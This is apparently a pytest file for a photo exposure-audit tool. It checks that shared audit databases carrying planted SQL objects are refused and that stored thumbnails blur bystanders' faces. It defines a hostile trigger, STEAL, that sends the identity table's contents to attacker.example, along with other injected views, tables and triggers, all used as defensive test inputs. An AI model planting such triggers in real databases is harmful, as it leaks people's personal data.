"""Attacks through a crafted audit file: SQL hidden in triggers, views and extra tables."""

from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest

from exposure_audit.audit.store import Audit
from exposure_audit.cli.main import run
from exposure_audit.errors import EnvironmentProblem
from tests.support.scanning import enrolled_audit, photo_folder

STEAL = """
CREATE TRIGGER leak AFTER INSERT ON runs BEGIN
    INSERT INTO sources(path, kind, added_at)
    VALUES ('http://attacker.example/collect?'
            || (SELECT group_concat(value, '|') FROM identity), 'url', 'now');
END
"""


def _shared_audit(path: Path, *extra_sql: str) -> Path:
    """An audit as someone else might hand it over: real data, plus what they slipped in."""
    with enrolled_audit(path) as audit:
        audit.set_identity({"name": "Jane Doe", "email": "jane@example.org"})
    raw = sqlite3.connect(path)
    for statement in extra_sql:
        raw.execute(statement)
    raw.commit()
    raw.close()
    return path


def test_a_trigger_in_a_shared_audit_is_refused_before_anything_runs(tmp_path: Path) -> None:
    path = _shared_audit(tmp_path / "shared.audit", STEAL)
    before = path.read_bytes()
    with pytest.raises(EnvironmentProblem, match="trigger 'leak'"):
        Audit.open(path)
    assert path.read_bytes() == before
    folder = photo_folder(tmp_path / "photos", ("obama3.jpg",))
    assert run(["scan", "--audit", str(path), "--source", str(folder), "--workers", "1"]) == 3
    raw = sqlite3.connect(path)
    assert raw.execute("SELECT count(*) FROM sources").fetchone() == (0,)
    assert raw.execute("SELECT count(*) FROM runs").fetchone() == (0,)
    raw.close()


@pytest.mark.parametrize(
    ("sql", "named"),
    [
        ("CREATE VIEW everything AS SELECT * FROM identity", "view 'everything'"),
        ("CREATE TABLE notes(x)", "table 'notes'"),
        ("CREATE INDEX sneaky ON sources(path)", "index 'sneaky'"),
        (
            "CREATE TRIGGER wipe BEFORE DELETE ON decisions BEGIN SELECT 1; END",
            "trigger 'wipe'",
        ),
    ],
)
def test_unknown_schema_objects_are_refused(tmp_path: Path, sql: str, named: str) -> None:
    path = _shared_audit(tmp_path / "shared.audit", sql)
    with pytest.raises(EnvironmentProblem, match=named):
        Audit.open(path)
    Audit.open(tmp_path / "fresh.audit").close()  # the lock was given back; others open


def test_a_table_replaced_by_a_view_is_refused(tmp_path: Path) -> None:
    path = _shared_audit(
        tmp_path / "shared.audit",
        "DROP TABLE problems",
        "CREATE VIEW problems AS SELECT * FROM identity",
    )
    with pytest.raises(EnvironmentProblem, match="view 'problems'"):
        Audit.open(path)


def test_audits_open_with_untrusted_schema(tmp_path: Path) -> None:
    with Audit.open(tmp_path / "a.audit") as audit:
        assert audit.db.execute("PRAGMA trusted_schema").fetchone() == (0,)


def test_an_interrupted_scan_is_marked_so_on_the_next_open(tmp_path: Path) -> None:
    path = tmp_path / "a.audit"
    with Audit.open(path) as audit:
        run_id = audit.start_run()  # the process dies here, mid-scan
        with Audit.open(path) as second:  # another thread of the same, live process
            row = second.db.execute("SELECT status FROM runs WHERE id = ?", (run_id,)).fetchone()
            assert row == ("running",)
    with Audit.open(path) as audit:
        row = audit.db.execute("SELECT status FROM runs WHERE id = ?", (run_id,)).fetchone()
        assert row == ("interrupted",)


def _sharpness(jpeg: bytes, box: tuple[int, int, int, int], scale: float) -> float:
    import io

    import numpy as np
    from PIL import Image, ImageFilter

    top, right, bottom, left = (v / scale for v in box)
    inset_x, inset_y = 0.15 * (right - left), 0.15 * (bottom - top)
    inner = (left + inset_x, top + inset_y, right - inset_x, bottom - inset_y)
    edges = Image.open(io.BytesIO(jpeg)).convert("L").filter(ImageFilter.FIND_EDGES)
    return float(np.asarray(edges.crop(tuple(int(v) for v in inner)), dtype=float).mean())


def test_stored_thumbnails_blur_everyone_but_the_person(qapp: object, tmp_path: Path) -> None:
    """The gallery's cache in the audit keeps no sharp face of anyone else."""
    from PIL import Image

    from exposure_audit.imaging import thumbnail_jpeg
    from exposure_audit.vocabulary import Decision
    from tests.support.photos import face_bytes
    from tests.support.scanning import run_scan
    from ui.thumbnails import THUMB_SIDE, load_thumbnail

    folder = photo_folder(tmp_path / "photos", ("two_people.jpg",))
    path = tmp_path / "a.audit"
    with enrolled_audit(path) as audit:
        run_scan(audit, [folder])
        (mine,) = audit.findings()
        faces = audit.faces_of(mine.item_id)
    assert len(faces) == 2
    load_thumbnail(path, mine.item_id, mine.source, mine.location)
    with Audit.open(path) as audit:
        stored = audit.thumbnail(mine.item_id)
    assert stored is not None
    sharp = thumbnail_jpeg(face_bytes("two_people.jpg"), side=THUMB_SIDE)
    full_width = Image.open(folder / "two_people.jpg").width
    scale = full_width / Image.open(__import__("io").BytesIO(sharp)).width
    ((other_id, other_box, _),) = [f for f in faces if f[0] != mine.face_id]
    mine_box = next(box for face_id, box, _ in faces if face_id == mine.face_id)
    assert _sharpness(stored, other_box, scale) < 0.5 * _sharpness(sharp, other_box, scale)
    assert _sharpness(stored, mine_box, scale) > 0.7 * _sharpness(sharp, mine_box, scale)
    with Audit.open(path) as audit:  # "not me" after all: the kept thumbnail goes
        audit.set_decision(mine.face_id, Decision.NOT_ME)
        assert audit.thumbnail(mine.item_id) is None
    assert other_id != mine.face_id
